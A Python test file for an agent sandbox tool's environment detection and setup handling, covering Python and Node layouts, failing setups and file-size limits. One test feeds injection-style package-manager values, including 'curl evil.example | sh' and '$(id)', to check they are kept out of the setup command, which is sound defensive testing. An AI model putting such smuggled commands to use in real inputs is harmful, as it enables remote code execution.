"""The project's environment: detection on the common layouts, setup recorded and cached, and a
failing setup that fails the run before any model call."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import bash, git, payloads, run_scripted
from tether.ledger import Ledger
from tether.policy.schema import EnvironmentPolicy
from tether.workspace.project import CommitFiles, detect, plan_for


def committed(folder: Path) -> CommitFiles:
    """The folder's files as a commit: plans are read from commits, never from a folder."""
    git(folder, "init", "-q", "-b", "main")
    git(folder, "add", "-A")
    git(folder, "-c", "user.email=d@e", "-c", "user.name=D", "commit", "-qm", "files", "--allow-empty")
    return CommitFiles(folder, git(folder, "rev-parse", "HEAD").strip())

SUBMIT = {"tool_calls": [{"name": "submit", "arguments": {"summary": "done"}}]}


def test_detection_of_common_layouts(tmp_path: Path):
    python = tmp_path / "py"
    (python / "src" / "pkg").mkdir(parents=True)
    (python / "src" / "pkg" / "__init__.py").write_text("")
    (python / "pyproject.toml").write_text(
        '[project]\nname = "pkg"\ndependencies = ["attrs>=20"]\n'
        '[project.optional-dependencies]\ntest = ["hypothesis"]\n'
        '[dependency-groups]\ndev = [{include-group = "lint"}, "coverage"]\nlint = ["ruff"]\n')
    plan = detect(committed(python))
    assert plan.kind == "python" and plan.python_path == ["src", "."]
    installs = " ".join(plan.setup)
    for requirement in ("'attrs>=20'", "'hypothesis'", "'coverage'", "'ruff'", "'pytest'"):
        assert requirement in installs
    assert "pyproject.toml" in plan.inputs

    requirements = tmp_path / "req"
    requirements.mkdir()
    (requirements / "requirements.txt").write_text("requests\n")
    (requirements / "app.py").write_text("")
    plan = detect(committed(requirements))
    assert "-r requirements.txt" in " ".join(plan.setup) and plan.python_path == ["."]

    node = tmp_path / "node"
    node.mkdir()
    (node / "package.json").write_text(json.dumps({"packageManager": "pnpm@8.15.0"}))
    (node / "pnpm-lock.yaml").write_text("lockfileVersion: '6.0'\n")
    plan = detect(committed(node))
    assert plan.kind == "node" and "--prefix \"$TETHER_ENV/tools\" pnpm@8.15.0 &&" in plan.setup[0]
    assert "pnpm install --frozen-lockfile" in plan.setup[0] and "tools/node_modules/.bin" in plan.path
    assert plan.mounts == {"node_modules": "node_modules"} and plan.path[0] == "node_modules/.bin"

    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "README.md").write_text("")
    assert detect(committed(empty)).kind == "none"


def test_declared_setup_wins_and_the_digest_follows_the_inputs(tmp_path: Path):
    (tmp_path / "requirements.txt").write_text("a\n")
    source = committed(tmp_path)
    plan = plan_for(EnvironmentPolicy(setup=["make env"], path=["bin"]), source)
    assert plan.kind == "declared" and plan.setup == ["make env"] and "requirements.txt" in plan.inputs
    before = plan.digest(source)
    (tmp_path / "requirements.txt").write_text("b\n")
    assert plan.digest(source) == before  # the worktree's file is not the commit's
    assert plan.digest(committed(tmp_path)) != before


def test_a_failing_setup_fails_the_run_with_the_command_and_its_output(ledger: Ledger, repo: Path, tmp_path: Path):
    policy = '[environment]\nsetup = ["echo preparing", "pip-that-does-not-exist install x"]\n'
    summary = run_scripted(ledger, repo, tmp_path, [SUBMIT], policy)
    assert summary["status"] == "failed"
    assert "pip-that-does-not-exist install x" in summary["reason"] and "not found" in summary["reason"]
    steps = payloads(ledger, summary["run_id"], "environment_setup")
    assert [s["ok"] for s in steps] == [True, False]
    assert not payloads(ledger, summary["run_id"], "model_request")  # no money spent


def test_the_package_manager_a_lockfile_names_is_installed_exactly_and_never_as_shell(tmp_path: Path):
    """pnpm switches to the exact version `packageManager` names, which it would fetch inside the
    sandbox without the network: that version is installed; anything that is not a plain version
    (a shell word, a URL) falls back to a major or to 9 and never reaches the setup command."""
    cases = {"pnpm@10.14.0-0+sha512.abc": "pnpm@10.14.0-0 ", "pnpm@8": "pnpm@8 ", "yarn@4.1.0": "pnpm@9 ",
             "pnpm@9.1.0; curl evil.example | sh": "pnpm@9 ", "pnpm@$(id)": "pnpm@9 ",
             "pnpm@https://evil.example/p.tgz": "pnpm@9 "}
    for index, (manager, expected) in enumerate(cases.items()):
        node = tmp_path / f"node{index}"
        node.mkdir()
        (node / "package.json").write_text(json.dumps({"packageManager": manager}))
        (node / "pnpm-lock.yaml").write_text("lockfileVersion: '9.0'\n")
        setup = detect(committed(node)).setup[0]
        assert f"{expected}&&" in setup, (manager, setup)
        assert "evil" not in setup and "$(id)" not in setup


def test_a_setup_may_write_a_file_larger_than_an_agents_step_may(ledger: Ledger, repo: Path, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch):
    """pip writes a wheel as one file (playwright's is over 100 MB): the setup's file size limit is
    not the agent's [sandbox] max_file_mb, which still holds for the agent's commands."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))  # built here, not taken from a cache
    size = "head -c 40M /dev/zero > \\\"$TETHER_ENV/wheel.bin\\\" && ls -la \\\"$TETHER_ENV/wheel.bin\\\""
    policy = f'[sandbox]\nmax_file_mb = 16\n[environment]\nsetup = ["{size}"]\n'
    summary = run_scripted(ledger, repo, tmp_path, [bash("head -c 40M /dev/zero > big.bin"), SUBMIT], policy)
    steps = payloads(ledger, summary["run_id"], "environment_setup")
    assert [s["ok"] for s in steps] == [True], steps
    observation = payloads(ledger, summary["run_id"], "tool_result")[0]["observation"]
    assert "File too large" in observation or "exit code 153" in observation, observation
